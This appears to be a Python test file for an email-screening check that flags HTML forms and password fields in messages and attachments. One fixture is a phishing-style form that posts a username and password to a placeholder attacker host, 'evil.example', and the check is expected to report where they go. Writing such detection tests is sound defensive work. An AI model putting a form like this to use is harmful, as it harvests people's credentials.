"""Beyond the corpus cases: what is asked for, and where it goes."""

from screen_cases import find, find_codes, measure, write_attachment, write_mail

CHECK = "html_form"


def test_a_password_field_without_a_form_asks_all_the_same() -> None:
    assert find_codes(CHECK, write_mail('<input type="password" name="p">', html=True)) == ["password"]


def test_the_evidence_says_what_is_asked_and_where_it_goes() -> None:
    body = '<form action="https://evil.example/p"><input name="user"><input type=password name="pass"></form>'
    (finding,) = find(CHECK, write_mail(body, html=True))
    assert finding.evidence[0].text == "user, pass -> https://evil.example/p"


def test_forms_in_mail_and_attachment_are_counted_together() -> None:
    page = b"<form action=a><input name=b></form>"
    assert measure(CHECK, write_attachment("a.html", page, "text/html")) == {"html_form.count": 1}
    assert measure(CHECK, write_mail()) == {"html_form.count": 0}


def test_a_form_behind_more_than_is_read_here_is_told_once() -> None:
    filled = b"<p>Boards</p>" * 90_000
    asks = b"<form><input type=password></form>"
    assert find_codes("html_form", write_attachment("a.html", filled + asks, "text/html")) == ["password"]
    assert find_codes("html_form", write_attachment("a.html", filled + b"<input name=a>", "text/html")) == ["attached"]
    assert find_codes("html_form", write_attachment("a.html", filled, "text/html")) == []


def test_a_form_that_a_browser_shows_in_xml_is_told() -> None:
    head = b'<?xml version="1.0"?><r xmlns:h="http://www.w3.org/1999/xhtml">'
    assert find_codes("html_form", write_attachment("a.xml", head + b'<h:input type="password"/></r>')) == ["password"]
    assert find_codes("html_form", write_attachment("a.xml", head + b"<h:p>Boards</h:p></r>")) == []
